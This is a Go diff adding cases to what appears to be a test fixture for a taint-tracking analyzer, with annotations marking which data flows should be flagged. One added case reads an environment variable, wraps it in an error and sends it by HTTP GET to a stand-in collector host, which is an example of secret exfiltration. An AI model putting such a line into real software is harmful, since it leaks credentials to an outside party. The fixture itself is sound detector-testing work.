@@ -19,6 +19,7 @@ import (
 	"sync"
 	"sync/atomic"
 	"time"
+	"unicode/utf8"
 )
 
 const U = "https://collector.example/u?"
@@ -501,4 +502,17 @@ func timed() {
 
 func timedNow() {
 	http.Get(U + time.Now().Format(time.RFC3339)) //~ ok
+}
+
+func runes() {
+	http.Get(U + strconv.Itoa(utf8.RuneCountInString(os.Getenv("T")))) //~ ok
+}
+
+func errorsJoined() {
+	err := errors.Join(errors.New(os.Getenv("T")), io.EOF) //~ source(ENVIRONMENT) f86
+	http.Get(U + err.Error()) //~ sink(egress.http) f86, finding(traced) f86
+}
+
+func errorsJoinedConstant() {
+	http.Get(U + errors.Join(io.EOF, io.EOF).Error()) //~ ok
 }
